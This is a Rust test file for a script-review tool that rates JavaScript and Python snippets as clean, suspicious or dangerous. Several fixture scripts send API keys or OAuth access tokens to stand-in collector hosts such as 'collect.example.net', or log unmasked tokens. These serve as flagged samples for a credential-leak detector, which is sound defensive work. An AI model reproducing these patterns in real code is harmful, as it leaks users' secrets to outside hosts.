//! Rows of session 58's clean-script rules (issue 17), each with the twins that stay flagged.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::{Language, Verdict};

use Verdict::{Clean, Dangerous, Suspicious};

/// A client class whose method throws `new Error(...)` on a failed request, made with `base`
/// as its server, plus `extra` at the end of `main`.
fn client_with_error(base: &str, extra: &str) -> String {
    format!(
        "class Client {{\n  constructor(base, key) {{\n    this.base = base;\n    this.key = key;\n  }}\n\
         \x20 async get(route) {{\n    const res = await fetch(`${{this.base}}/api/${{route}}`, \
         {{ headers: {{ Authorization: `Bearer ${{this.key}}` }} }});\n    if (res.ok) return \
         (await res.json()).results;\n    throw new Error(`GET ${{route}}: HTTP ${{res.status}}`);\n  }}\n}}\n\
         async function main() {{\n  const client = new Client('{base}', process.env.ACME_API_KEY);\n  \
         console.log(JSON.stringify(await client.get('stats')));\n{extra}}}\nmain();\n"
    )
}

/// `new Error(message)`, `new URL(text)`: the language's own classes run none of the script's
/// constructors, so the script's `new Client('http://localhost:8000', key)` alone says where
/// the token goes. Twins: the same class given a host nobody answers for, and a second
/// instance made with a host from the command line.
#[test]
fn a_builtin_class_runs_none_of_the_scripts_constructors() {
    crate::verdict(
        Language::JavaScript,
        &client_with_error("http://localhost:8000", ""),
        Clean,
    );
    let r = crate::verdict(
        Language::JavaScript,
        &client_with_error("https://collect.example.net", ""),
        Dangerous,
    );
    crate::has_rule(&r, "secret-to-network");
    let second = "  const other = new Client(process.argv[2], process.env.ACME_API_KEY);\n  \
                  await other.get('stats');\n";
    let r = crate::verdict(
        Language::JavaScript,
        &client_with_error("http://localhost:8000", second),
        Dangerous,
    );
    crate::has_rule(&r, "secret-to-network");
}

/// A class whose constructor checks `base`, stores `new URL(base).origin` and the key, and
/// whose method `get` has `body`.
fn stats_class(store_key: &str, body: &str) -> String {
    format!(
        "class Stats {{\n  #origin;\n  #key;\n  constructor(base, key) {{\n    const url = new URL(base);\n\
         \x20   if (url.hostname !== 'localhost') throw new Error(`${{url.hostname}} is not local`);\n\
         \x20   this.#origin = url.origin;\n{store_key}  }}\n  async get(route) {{\n{body}  }}\n}}\n\
         async function main() {{\n  const client = new Stats(process.env.STATS_URL || \
         'http://localhost:8000', process.env.STATS_API_KEY);\n  \
         console.log(JSON.stringify(await client.get('aggregate'), null, 2));\n}}\nmain();\n"
    )
}

/// A constructor that makes a local of a parameter and stores the local (`const url = new
/// URL(base); this.origin = url.origin`) stores that parameter: a method's result is what its
/// body returns, not the token the instance was made with. Twins: the key handed to
/// `Object.assign` through a local (no `this.x =` store), and a method returning the key.
#[test]
fn a_parameter_stored_through_a_local_is_stored() {
    let fetch_body = "    const res = await fetch(`${this.#origin}/api/${route}`, { headers: { \
                      authorization: `Bearer ${this.#key}` } });\n    return res.ok ? (await \
                      res.json()).results : [];\n";
    let r = crate::review(
        Language::JavaScript,
        &stats_class("    this.#key = key;\n", fetch_body),
    );
    assert!(
        !r.findings.iter().any(|f| f.rule == "secret-to-output"),
        "{r:#?}"
    );
    let assign = stats_class(
        "    const auth = key;\n    Object.assign(this, { auth });\n",
        "    const res = await fetch(`${this.#origin}/api/${route}`, { headers: { \
         authorization: `Bearer ${this.auth}` } });\n    return res.ok ? (await \
         res.json()).results : [];\n",
    );
    let r = crate::verdict(Language::JavaScript, &assign, Dangerous);
    crate::has_rule(&r, "secret-to-output");
    let own = stats_class("    this.#key = key;\n", "    return [this.#key, route];\n");
    let r = crate::verdict(Language::JavaScript, &own, Dangerous);
    crate::has_rule(&r, "secret-to-output");
}

/// A mask helper cutting `secret[:keep]`, with `keep`'s default `default` and called as
/// `call`, over environment variable `var`.
fn mask_helper(default: &str, call: &str, var: &str) -> String {
    format!(
        "import logging\nimport os\n\nlog = logging.getLogger('report')\n\n\n\
         def mask(secret, keep={default}):\n    if not secret:\n        return '<unset>'\n    \
         return secret[:keep] + '*' * (len(secret) - keep)\n\n\n\
         token = os.environ.get('{var}', '')\nlog.info('using %s', {call})\n"
    )
}

/// `secret[:keep]` with `keep=4` cuts four characters, as `secret[:4]` does: every value the
/// name may hold must mask. Twins: the helper called with forty, a width read from the
/// environment, and six characters of a password (four at most).
#[test]
fn a_slice_bound_held_by_a_parameter_masks_with_each_value() {
    let r = crate::review(
        Language::Python,
        &mask_helper("4", "mask(token)", "ZAMMAD_TOKEN"),
    );
    assert!(
        !r.findings.iter().any(|f| f.rule == "secret-to-output"),
        "{r:#?}"
    );
    let twins = [
        mask_helper("4", "mask(token, keep=40)", "ZAMMAD_TOKEN"),
        mask_helper("4", "mask(token, 40)", "ZAMMAD_TOKEN"),
        mask_helper(
            "int(os.environ.get('KEEP', '4'))",
            "mask(token)",
            "ZAMMAD_TOKEN",
        ),
        mask_helper("6", "mask(token)", "SMTP_PASSWORD"),
    ];
    for src in &twins {
        let r = crate::verdict(Language::Python, src, Dangerous);
        crate::has_rule(&r, "secret-to-output");
    }
}

/// A class of fields (`@dataclass`, base `base`) holding a token, an instance of it made
/// with the token, and `shown` logged.
fn field_class(base: &str, shown: &str) -> String {
    format!(
        "import logging\nimport os\nimport threading\nfrom dataclasses import dataclass\n\n\
         log = logging.getLogger('x')\n\n\n@dataclass\nclass Client{base}:\n    base_url: str\n    \
         token: str\n    calls: int = 0\n\n    def get(self, path):\n        self.calls += 1\n        \
         return path\n\n\nclient = Client('http://localhost:8000', os.environ['ZAMMAD_TOKEN'])\n\
         client.get('/x')\nlog.info('%s', {shown})\n"
    )
}

/// A dataclass puts a call's arguments into its fields and nowhere else: `client.calls` is
/// the counter, not the token the instance was given. Twins: the token field itself, and a
/// class whose base comes from elsewhere (`threading.Thread` may keep the arguments in
/// members the script never names).
#[test]
fn a_dataclass_member_is_what_its_field_holds() {
    let r = crate::review(Language::Python, &field_class("", "client.calls"));
    assert!(
        !r.findings.iter().any(|f| f.rule == "secret-to-output"),
        "{r:#?}"
    );
    let r = crate::review(
        Language::Python,
        &field_class("(NamedTuple)", "client.calls"),
    );
    assert!(
        !r.findings.iter().any(|f| f.rule == "secret-to-output"),
        "{r:#?}"
    );
    for src in [
        field_class("", "client.token"),
        field_class("(threading.Thread)", "client.calls"),
    ] {
        let r = crate::verdict(Language::Python, &src, Dangerous);
        crate::has_rule(&r, "secret-to-output");
    }
}

/// An access token a vendor's login endpoint gave for the vendor's client secret (sent to
/// its documented host), used at another host documented for the same secret
/// (`graph.microsoft.com` beside `login.microsoftonline.com`): the same vendor's API, as the
/// host the secret went to is. Twins: the same host with no token of the vendor used (not on
/// the allowed list), and the access token sent to a host the vendor does not document.
#[test]
fn a_vendor_host_beside_the_one_its_secret_went_to_is_that_vendors() {
    crate::verdict(Language::JavaScript, GRAPH_WITH_TOKEN, Clean);
    for src in [GRAPH_WITHOUT_TOKEN, TOKEN_TO_OTHER_HOST] {
        let r = crate::verdict(Language::JavaScript, src, Suspicious);
        crate::has_rule(&r, "network-unlisted-host");
    }
}

const GRAPH_WITH_TOKEN: &str = r#"const GRAPH = 'https://graph.microsoft.com/v1.0';
async function token() {
  const body = new URLSearchParams({
    client_id: process.env.M365_CLIENT_ID,
    client_secret: process.env.M365_CLIENT_SECRET,
    scope: 'https://graph.microsoft.com/.default',
    grant_type: 'client_credentials',
  });
  const res = await fetch(`https://login.microsoftonline.com/${process.env.M365_TENANT_ID}/oauth2/v2.0/token`, { method: 'POST', body });
  const json = await res.json();
  return json.access_token;
}
async function main() {
  const access = await token();
  const res = await fetch(`${GRAPH}/users?$top=5`, { headers: { Authorization: `Bearer ${access}` } });
  const users = await res.json();
  console.log(users.value.length);
}
main();
"#;

const GRAPH_WITHOUT_TOKEN: &str = r#"const GRAPH = 'https://graph.microsoft.com/v1.0';
async function main() {
  const res = await fetch(`${GRAPH}/users?$top=5`);
  const users = await res.json();
  console.log(users.value.length);
}
main();
"#;

const TOKEN_TO_OTHER_HOST: &str = r#"const GRAPH = 'https://stats.example-collector.com/v1.0';
async function token() {
  const body = new URLSearchParams({
    client_id: process.env.M365_CLIENT_ID,
    client_secret: process.env.M365_CLIENT_SECRET,
    scope: 'https://graph.microsoft.com/.default',
    grant_type: 'client_credentials',
  });
  const res = await fetch(`https://login.microsoftonline.com/${process.env.M365_TENANT_ID}/oauth2/v2.0/token`, { method: 'POST', body });
  const json = await res.json();
  return json.access_token;
}
async function main() {
  const access = await token();
  const res = await fetch(`${GRAPH}/users?$top=5`, { headers: { Authorization: `Bearer ${access}` } });
  const users = await res.json();
  console.log(users.value.length);
}
main();
"#;

/// A client class whose constructor refuses a URL from the command line unless its host is on
/// a literal allow-list, then stores its origin: with the script's constructor no longer given
/// the error's message, the check alone decides where the token goes. Twins: the failure only
/// logs, the check reads another variable, a suffix without its dot, the check after the
/// send, and an allow-list holding a host nobody answers for.
#[test]
fn a_client_class_checked_in_its_constructor_keeps_its_twins() {
    crate::verdict(Language::JavaScript, CHECKED, Clean);
    for src in [LOGS_ONLY, OTHER_VAR, NO_DOT, AFTER_SEND, UNKNOWN_LISTED] {
        let r = crate::verdict(Language::JavaScript, src, Dangerous);
        crate::has_rule(&r, "secret-to-network");
    }
}

const CHECKED: &str = r#"const ALLOWED = new Set(['localhost', '127.0.0.1']);
class Client {
  constructor(base, key) {
    const u = new URL(base);
    if (!ALLOWED.has(u.hostname)) throw new Error(`refusing ${u.hostname}`);
    this.base = u.origin;
    this.key = key;
  }
  async get(route) {
    const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
    if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
    return res.json();
  }
}
async function main() {
  const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
  console.log(JSON.stringify(await client.get('stats')));
}
main();
"#;

const LOGS_ONLY: &str = r#"const ALLOWED = new Set(['localhost', '127.0.0.1']);
class Client {
  constructor(base, key) {
    const u = new URL(base);
    if (!ALLOWED.has(u.hostname)) console.warn(`refusing ${u.hostname}`);
    this.base = u.origin;
    this.key = key;
  }
  async get(route) {
    const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
    if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
    return res.json();
  }
}
async function main() {
  const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
  console.log(JSON.stringify(await client.get('stats')));
}
main();
"#;

const OTHER_VAR: &str = r#"const ALLOWED = new Set(['localhost', '127.0.0.1']);
class Client {
  constructor(base, key) {
    const u = new URL(base);
    if (!ALLOWED.has(new URL(process.env.OTHER_URL).hostname)) throw new Error(`refusing ${u.hostname}`);
    this.base = u.origin;
    this.key = key;
  }
  async get(route) {
    const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
    if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
    return res.json();
  }
}
async function main() {
  const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
  console.log(JSON.stringify(await client.get('stats')));
}
main();
"#;

const NO_DOT: &str = r#"const ALLOWED = new Set(['localhost', '127.0.0.1']);
class Client {
  constructor(base, key) {
    const u = new URL(base);
    if (!u.hostname.endsWith('internal')) throw new Error(`refusing ${u.hostname}`);
    this.base = u.origin;
    this.key = key;
  }
  async get(route) {
    const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
    if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
    return res.json();
  }
}
async function main() {
  const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
  console.log(JSON.stringify(await client.get('stats')));
}
main();
"#;

const AFTER_SEND: &str = r#"const ALLOWED = new Set(['localhost', '127.0.0.1']);
class Client {
  constructor(base, key) {
    const u = new URL(base);
    this.base = u.origin;
    this.key = key;
  }
  async get(route) {
    const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
    if (!ALLOWED.has(new URL(this.base).hostname)) throw new Error('late');
    if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
    return res.json();
  }
}
async function main() {
  const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
  console.log(JSON.stringify(await client.get('stats')));
}
main();
"#;

const UNKNOWN_LISTED: &str = r#"const ALLOWED = new Set(['localhost', 'collect.example.net']);
class Client {
  constructor(base, key) {
    const u = new URL(base);
    if (!ALLOWED.has(u.hostname)) throw new Error(`refusing ${u.hostname}`);
    this.base = u.origin;
    this.key = key;
  }
  async get(route) {
    const res = await fetch(`${this.base}/api/${route}`, { headers: { Authorization: `Bearer ${this.key}` } });
    if (!res.ok) throw new Error(`GET ${route}: ${res.status}`);
    return res.json();
  }
}
async function main() {
  const client = new Client(process.argv[2] || 'http://localhost:8000', process.env.ACME_API_KEY);
  console.log(JSON.stringify(await client.get('stats')));
}
main();
"#;
